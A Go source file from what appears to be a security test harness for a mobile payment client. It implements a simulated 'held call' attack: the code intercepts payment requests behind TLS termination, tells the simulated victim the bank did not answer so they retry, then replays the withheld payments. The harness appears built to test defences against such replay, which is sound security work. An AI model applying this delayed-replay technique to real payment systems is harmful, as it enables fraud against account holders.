package attacker

import (
	"context"
	"errors"
	"fmt"

	"keyladder/mobileclient/attacker/attack"
	"keyladder/mobileclient/attacker/network"
)

// heldPayments is how many payments are held back: enough for somebody who wants to know until when one
// that was never used is good, which takes a fresh one each time.
const heldPayments = 12

// heldCall keeps payments from the API behind the end of TLS, complete and never used, and sends one
// of them later. The victim is told that the bank does not answer, and tries again.
//
//keyladder:code attack-held-call
func heldCall(ctx context.Context, g *attack.Given) (attack.Result, error) {
	var held []attack.Use
	g.Inside.Hold(func(call attack.Captured) bool {
		payment := network.IsPayment(call.Method, call.Target)
		if payment {
			held = append(held, again(g, call))
		}
		return payment
	})
	defer g.Inside.Hold(nil)
	for range heldPayments {
		err := g.Inside.VictimPays(ctx)
		var unpaid *attack.Unpaid
		if !errors.As(err, &unpaid) {
			return attack.Result{}, fmt.Errorf("a payment that was held back is made all the same: %w", err)
		}
	}
	if len(held) < heldPayments {
		return attack.Result{}, fmt.Errorf("%d payments were held back of %d", len(held), heldPayments)
	}
	g.Say("Held back %d payments of the victim's on their way to the API.", len(held))
	if err := held[0](ctx); err != nil {
		return attack.Stopped(err)
	}
	g.Say("Sent one of them: it is served.")
	return attack.Result{Claim: true}, g.SpendLoot(ctx, held[1:]...)
}
